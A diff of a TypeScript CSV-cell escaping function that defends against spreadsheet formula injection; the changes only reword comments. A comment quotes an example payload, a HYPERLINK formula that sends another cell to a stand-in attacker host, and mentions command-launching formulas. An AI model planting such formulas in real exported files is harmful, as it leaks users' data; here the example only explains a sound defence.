@@ -1,40 +1,39 @@
 /**
  * Escapes a cell of a CSV file (RFC 4180, separated by commas).
  *
- * Stops a title that a spreadsheet runs as a formula (sec-O02): `=HYPERLINK("https://evil.example/?"&A1)`
- * sends another cell to an attacker when clicked, and `=cmd|…` could start programs. Quotes do not help,
- * because the spreadsheet removes them first. A text that starts like a formula gets an apostrophe in front,
- * as OWASP advises.
+ * Stops titles that a spreadsheet runs as a formula (sec-O02). `=HYPERLINK("https://evil.example/?"&A1)` sends another
+ * cell to an attacker when the user clicks it, and `=cmd|…` could start programs. Quotes do not help, because the
+ * spreadsheet removes them first. So a text that starts like a formula gets an apostrophe in front, as OWASP advises.
  *
- * An http or https URL needs no apostrophe, because it starts with `h`. Escape sequences are kept, because they
- * are harmless in a file. Use `terminalText` before showing the text on a terminal.
+ * An http or https URL needs no apostrophe, because it starts with `h`. Escape sequences for terminals are kept,
+ * because they are harmless in a file. Use `terminalText` before you show the text on a terminal.
  */
 import { expectOption } from "./expect-text.ts";
 
 /** Options of `csvCell`. */
 export interface CsvCellOptions {
   /**
-   * Whether to write the exact text without an apostrophe, for programs that read the file.
+   * Write the exact text, never with an apostrophe. Use this only if programs read the file, not spreadsheets.
    * @default false
    */
   readonly raw?: boolean | undefined;
 }
 
-/** Some spreadsheets convert the full-width and small forms. */
+/** Characters that start a formula. Some spreadsheets also accept their full-width and small variants. */
 const FORMULA_SIGN = /^[=+\-@＝＋－＠﹦﹢﹣﹫−]/;
 const LINE_OR_TAB = /[\t\r\n]/;
-/** A character that a spreadsheet does not skip at the start of a cell. */
+/** Matches a visible character. Spreadsheets skip other characters at the start of a cell. */
 const VISIBLE = /[^\s\p{Cc}\p{Cf}\p{Default_Ignorable_Code_Point}]/gu;
 const APOSTROPHE = 0x27;
 
 /**
- * Whether the text starts with `=`, `+`, `-`, `@`, a tab or a line break, also after blanks and invisible characters.
- * Apostrophes in front count as well: `'=…` in the text gets another apostrophe, which distinguishes it from an escaped
- * `=…`. One expression for all of it would need a stack as large as the text: 10 MB of blanks would overflow it.
+ * Whether the text starts with `=`, `+`, `-`, `@`, a tab or a line break, also after blanks, invisible characters and
+ * apostrophes. So a text `'=…` gets a second apostrophe. Otherwise it would look like an escaped `=…`. This is not one
+ * regular expression, because it would need a stack as large as the text: 10 MB of blanks would overflow it.
  */
 function startsLikeFormula(text: string): boolean {
   const code = text.charCodeAt(0) | 0x20;
-  // Nearly every cell starts with a letter.
+  // The fast case: nearly every cell starts with a letter.
   if (code >= 0x61 && code <= 0x7a) return false;
   let start = 0;
   while (text.charCodeAt(start) === APOSTROPHE) start++;
@@ -43,16 +42,16 @@ function startsLikeFormula(text: string): boolean {
   return FORMULA_SIGN.test(text.charAt(end)) || LINE_OR_TAB.test(text.slice(start, end));
 }
 
-/** A cell that matches is quoted: also for separators of other dialects, and blanks that some readers strip. */
+/** Matches a cell that needs quotes. Includes separators of other CSV dialects, and blanks that some readers strip. */
 const QUOTED = /[",\r\n;\t]|^\s|\s$/;
 
 const NO_OPTIONS: CsvCellOptions = {};
-/** The options of the last call. They are checked once, because a file has millions of cells. */
+/** The options of the last call. The same object is not checked again, because a file has millions of cells. */
 let checkedOptions: CsvCellOptions = NO_OPTIONS;
 
 /**
- * Returns the cell, quoted if needed, or an empty string for an absent value. Numbers get no apostrophe. To
- * read a cell back, remove one apostrophe from a text like `'=…`.
+ * Returns the cell, with quotes if needed. Returns an empty string for null and undefined. Numbers get no apostrophe.
+ * To read a cell back, remove one apostrophe from a text such as `'=…`.
  *
  * @example
  * csvCell("=1+1"); // "'=1+1"
